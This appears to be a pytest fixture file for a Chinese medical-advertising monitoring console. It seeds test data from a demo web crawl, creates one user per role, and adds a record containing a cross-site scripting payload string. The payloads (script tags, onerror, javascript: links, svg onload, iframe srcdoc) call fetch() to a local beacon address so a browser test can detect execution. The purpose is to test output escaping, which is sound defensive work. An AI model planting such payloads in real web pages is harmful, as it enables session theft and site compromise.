"""The web console's test data, built once per test session: the demo web crawled through the real `yijian` CLI
(tests/demo_env.py) into a temporary data dir, plus two pages a crawler could meet — one carrying hostile markup
in its title, text, author, URL and finding, one whose second version dropped its "根治" claim — and one user
per role. Console tests (tests/test_console*.py) use the ``console_data`` fixture; the case pages' tests use
``evidence_settings`` (the demo web served again so its pages can be captured as evidence, and a signing key)."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest

from config import Settings, get_settings
from demo.server import DemoWeb
from domain import Extracted, Finding
from store.db import Store
from store.indexer import Indexer
from store.search.factory import get_search
from tests.demo_env import YIJIAN, demo_env

PASSWORD = "correct-horse-9"
ROLES = ("staff", "analyst", "investigator", "admin")
# Where a payload would phone home if it ever ran (the browser test watches for requests to it).
BEACON = "http://127.0.0.99:9/xss-beacon"
HOSTILE_URL = "http://127.0.0.12:1/hostile.html"
REVISED_URL = "http://127.0.0.12:1/revised.html"
HOSTILE_MARKUP = (
    f"<script>alert('xss');fetch('{BEACON}?s')</script>"
    f"<img src=x onerror=\"alert(1);fetch('{BEACON}?img')\">"
    f"<a href=\"javascript:fetch('{BEACON}?js')\">点我</a>"
    f"<svg onload=\"fetch('{BEACON}?svg')\"></svg>"
    f"<iframe srcdoc=\"<script>parent.fetch('{BEACON}?iframe')</script>\"></iframe>"
    '<div style="width: expression(alert(1))">根治</div>'
    "</em><em onmouseover=alert(1)>"
)


@dataclass
class ConsoleData:
    data: Path
    settings: Settings
    hostile_id: str
    revised_id: str
    demo_port: int
    password: str = PASSWORD

    def user(self, role: str) -> str:
        return f"t-{role}"


def _add_pages(settings: Settings) -> tuple[str, str]:
    store = Store.from_settings(settings)
    try:
        now = datetime(2026, 3, 8, 2, 0, tzinfo=UTC)
        ex = Extracted(url=HOSTILE_URL, title=f"华康医院 根治 {HOSTILE_MARKUP}", text=f"本院保证根治。{HOSTILE_MARKUP}",
                       author=HOSTILE_MARKUP, published_at=now)  # fmt: skip
        saved = store.save_version(
            run_id=None, source_id="private-hospital", url=HOSTILE_URL, final_url=HOSTILE_URL, extracted=ex,
            content_hash="h" * 64, raw=None, headers={}, fetched_at=now, rendered=False,
            institution_id="private-hospital", region="广东省江州市",
        )  # fmt: skip
        start = ex.text.index("根治")
        store.save_analysis(saved.version_id, ["exaggerated_efficacy"], {"exaggerated_efficacy": 0.97}, [
            Finding(category="ad_efficacy_guarantee", label="exaggerated_efficacy", start=start, end=start + 2,
                    text=f"根治{HOSTILE_MARKUP}", legal_basis=HOSTILE_MARKUP, severity="S1", source="rules",
                    field="text", score=1.0, reason=HOSTILE_MARKUP),
        ])  # fmt: skip
        texts = ("江州华康医院男科专家坐诊，一次根治，无效退款。预约电话 0756-1234567。",
                 "江州华康医院男科专家坐诊，规范诊疗。预约电话 0756-1234567。")  # fmt: skip
        for n, text in enumerate(texts, 1):
            ex = Extracted(url=REVISED_URL, title="华康男科专家坐诊", text=text, published_at=now)
            saved2 = store.save_version(
                run_id=None, source_id="private-hospital", url=REVISED_URL, final_url=REVISED_URL,
                extracted=ex, content_hash=str(n) * 64, raw=None, headers={}, fetched_at=now, rendered=False,
                institution_id="private-hospital", region="广东省江州市",
            )  # fmt: skip
            if n == 1:
                s = text.index("一次根治")
                findings = [Finding(category="ad_efficacy_guarantee", label="exaggerated_efficacy", start=s,
                                    end=s + 4, text="一次根治", legal_basis="《广告法》第十六条", severity="S2",
                                    source="rules", field="text", score=1.0, reason="保证治愈")]  # fmt: skip
                store.save_analysis(saved2.version_id, ["exaggerated_efficacy"], {}, findings)
            else:
                store.save_analysis(saved2.version_id, [], {}, [])
        store.outbox_add([saved.doc_id, saved2.doc_id])
        Indexer(store, get_search(settings)).replay()
        return saved.doc_id, saved2.doc_id
    finally:
        store.close()


@pytest.fixture(scope="session")
def console_data(tmp_path_factory: pytest.TempPathFactory) -> ConsoleData:
    web = DemoWeb()
    web.start()
    port = web.port
    try:
        assert port is not None
        data = tmp_path_factory.mktemp("console-data")
        env = demo_env(data, web.port)
        proc = subprocess.run([*YIJIAN, "crawl", "--all", "--json"], env=env, capture_output=True, text=True,
                              timeout=900)  # fmt: skip
        assert proc.returncode == 0, proc.stderr[-3000:]
        assert json.loads(proc.stdout)["documents"] > 10
    finally:
        web.stop()
    settings = get_settings(data_dir=data)
    hostile_id, revised_id = _add_pages(settings)
    for role in ROLES:
        proc = subprocess.run([*YIJIAN, "user", "add", f"t-{role}", "--role", role, "--password-stdin"], env=env,
                              input=PASSWORD + "\n", capture_output=True, text=True, timeout=120)  # fmt: skip
        assert proc.returncode == 0, proc.stderr
    return ConsoleData(data, settings, hostile_id, revised_id, port)


@pytest.fixture(scope="session")
def evidence_settings(console_data: ConsoleData) -> Iterator[Settings]:
    """Settings for capturing the crawled demo pages from the console: the demo web serves again on the port its
    pages were crawled from, private addresses are allowed (the demo web is on 127.0.0.x) and the data dir has a
    signing key (what `yijian init` creates)."""
    from app.cases import init_evidence

    settings = console_data.settings.model_copy(
        update={"snapshot_allow_private": True, "snapshot_timeout_s": 60.0}
    )
    init_evidence(settings)
    web = DemoWeb()
    web.start(console_data.demo_port)
    try:
        yield settings
    finally:
        web.stop()
